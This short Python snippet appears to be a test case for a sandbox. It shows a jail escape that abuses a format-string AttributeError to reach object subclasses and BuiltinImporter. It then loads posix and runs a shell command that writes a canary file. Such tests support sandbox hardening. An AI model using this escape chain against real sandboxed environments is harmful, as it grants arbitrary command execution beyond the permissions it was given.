# A format string makes an exception, the exception holds the object that may not be named.
# effect: canary
try:
    "{0.__class__.__base__.__subclasses__.missing}".format(())
except AttributeError as error:
    subclasses = error.obj
    for each in subclasses():
        if each.__name__ == "BuiltinImporter":
            each.load_module("posix").system("echo x > @CANARY@")
